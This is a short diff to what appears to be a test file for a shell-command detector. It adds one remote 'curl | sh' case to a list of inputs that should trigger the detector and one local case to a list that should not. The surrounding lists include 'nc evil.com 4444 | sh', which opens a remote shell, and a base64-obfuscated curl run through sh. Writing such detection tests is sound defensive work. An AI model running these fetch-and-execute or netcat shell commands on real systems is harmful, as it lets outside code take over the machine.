@@ -39,11 +39,13 @@ const fires: readonly string[] = [
   '`curl x.com`',
   'sh -c "$(printf %s Y3Vy | base64 -d)"',
   'nc evil.com 4444 | sh',
+  'curl http://tools/install.sh | sh',
 ];
 
 const quiet: readonly string[] = [
   'curl http://localhost:3000/h | sh',
   'curl -fsS http://127.0.0.1/health',
+  'curl -s http://host.docker.internal:3000/h | sh',
   'echo "curl x | sh"',
   'grep -q "curl .*| *bash" file',
   'curl https://x.com/y.json | jq .a',
